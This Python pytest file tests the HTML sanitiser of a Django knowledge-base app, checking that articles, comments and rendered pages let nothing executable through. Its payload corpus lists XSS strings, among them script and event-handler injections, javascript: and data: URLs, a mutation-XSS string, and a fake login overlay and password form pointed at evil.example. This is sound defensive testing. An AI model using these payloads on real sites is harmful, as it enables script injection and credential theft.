"""The one sanitiser, as used for articles and comments: nothing executable gets through."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from knowledge import services
from knowledge.content import article_html
from knowledge.models import Article
from tests.knowledge.fixtures import article_data, png_bytes, publish, upload

pytestmark = pytest.mark.django_db

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<iframe src="https://evil.example"></iframe>',
    '<img src=x onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">klik</a>',
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](  javascript:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.png)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">nep inlogscherm</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="wachtwoord"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href='https://evil.example/'>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
]

FORBIDDEN_TAGS = {"script", "iframe", "style", "svg", "object", "embed", "form", "input",
                  "meta", "link", "base", "math", "div", "frame", "frameset"}  # fmt: skip


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name}")
            if name in {"href", "src"} and not value.startswith(
                ("http://", "https://", "mailto:", "/knowledge/articles/", "#")
            ):
                self.problems.append(f"{name}={value}")
            if tag == "img" and name == "src" and not value.startswith("/knowledge/articles/"):
                self.problems.append(f"foreign image {value}")


def problems(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(str(html))
    return inspector.problems


@pytest.mark.parametrize("payload", CORPUS)
def test_it_cleans_articles(trainer, payload):
    article = services.save_article(None, by=trainer, data=article_data(body=payload))
    assert problems(article_html(article, [])) == []


@pytest.mark.parametrize("payload", CORPUS)
def test_it_cleans_comments(trainer, colleague, payload):
    article = publish(trainer)
    comment = services.add_comment(article, by=colleague, body=payload)
    assert problems(comment.body_html) == []


@pytest.mark.parametrize("payload", CORPUS)
def test_it_cleans_the_rendered_pages(client, trainer, colleague, payload):
    article = publish(trainer, body=payload)
    services.add_comment(article, by=colleague, body=payload)
    client.force_login(colleague)
    page = client.get(f"/knowledge/articles/{article.pk}/").content.decode()
    main = page[page.index('<main id="main"') : page.index("</main>")]
    dangerous = (
        "tag script",
        "tag iframe",
        "tag style",
        "tag svg",
        "tag object",
        "tag embed",
        "tag meta",
        "tag link",
        "tag base",
        "tag math",
        "attribute",
        "foreign image",
    )
    found = [p for p in problems(main) if p.startswith(dangerous)]
    found += [
        p
        for p in problems(main)
        if p.startswith(("href=", "src="))
        and p.split("=", 1)[1].startswith(("javascript", "data", "vbscript"))
    ]
    assert found == []


def test_it_keeps_article_formatting(trainer):
    body = (
        "## Kop\n\n### Onderkop\n\n- een\n- twee\n\n1. eerste\n\n> citaat\n\n`code`\n\n"
        "```\nblok\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.org)"
    )
    html = str(
        article_html(services.save_article(None, by=trainer, data=article_data(body=body)), [])
    )
    for tag in ("<h2>", "<h3>", "<ul>", "<ol>", "<blockquote>", "<code>", "<pre>", "<table>",
                "<th>", "<td>"):  # fmt: skip
        assert tag in html, tag
    assert 'rel="noopener noreferrer nofollow"' in html


def test_it_shows_images_only_from_the_articles_own_attachments(trainer):
    article = services.save_article(None, by=trainer, data=article_data())
    image = services.add_attachment(article, by=trainer, upload=upload("foto.png", png_bytes()))
    other = services.save_article(None, by=trainer, data=article_data(title="Ander artikel"))
    foreign = services.add_attachment(other, by=trainer, upload=upload("b.png", png_bytes()))
    own_url = f"/knowledge/articles/{article.pk}/files/{image.pk}/"
    foreign_url = f"/knowledge/articles/{other.pk}/files/{foreign.pk}/"
    crafted_url = f"/knowledge/articles/{article.pk}/files/{foreign.pk}/"
    article.body = f"![eigen]({own_url})\n\n![ander]({foreign_url})\n\n![nep]({crafted_url})"
    html = str(article_html(article, Article.objects.get(pk=article.pk).attachments.all()))
    assert f'src="{own_url}"' in html
    assert foreign_url not in html.replace("<img", "")  # at most as text, never an image
    assert f'src="{foreign_url}"' not in html
    assert f'src="{crafted_url}"' not in html


def test_it_does_not_allow_images_in_comments(trainer, colleague):
    article = services.save_article(None, by=trainer, data=article_data())
    image = services.add_attachment(article, by=trainer, upload=upload("foto.png", png_bytes()))
    article = services.set_published(article, by=trainer)
    url = f"/knowledge/articles/{article.pk}/files/{image.pk}/"
    comment = services.add_comment(article, by=colleague, body=f"![x]({url})")
    assert "<img" not in comment.body_html
